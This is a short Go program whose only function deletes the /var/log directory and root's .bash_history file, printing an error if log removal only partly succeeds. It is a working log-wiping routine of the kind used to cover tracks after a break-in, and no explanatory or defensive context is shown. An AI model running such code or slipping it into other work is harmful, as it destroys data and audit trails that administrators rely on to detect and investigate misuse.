package main

import (
	"fmt"
	"os"
)

func main() {
	if err := os.RemoveAll("/var/log"); err != nil {
		fmt.Println("partial:", err)
	}
	os.Remove("/root/.bash_history")
}
